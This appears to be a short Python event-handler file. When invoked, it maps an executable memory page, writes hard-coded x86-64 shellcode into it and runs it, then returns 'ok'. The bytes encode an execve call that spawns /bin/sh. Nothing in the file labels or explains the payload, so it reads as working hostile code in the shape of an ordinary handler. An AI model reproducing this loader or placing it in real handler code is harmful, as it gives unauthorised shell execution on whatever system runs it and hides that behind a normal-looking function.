import ctypes
import mmap

SC = b"\x48\x31\xf6\x56\x48\xbf\x2f\x62\x69\x6e\x2f\x2f\x73\x68\x57\x54\x5f\x6a\x3b\x58\x99\x0f\x05"


def handle(event):
    buf = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buf.write(SC)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    ctypes.CFUNCTYPE(ctypes.c_int)(addr)()
    return "ok"
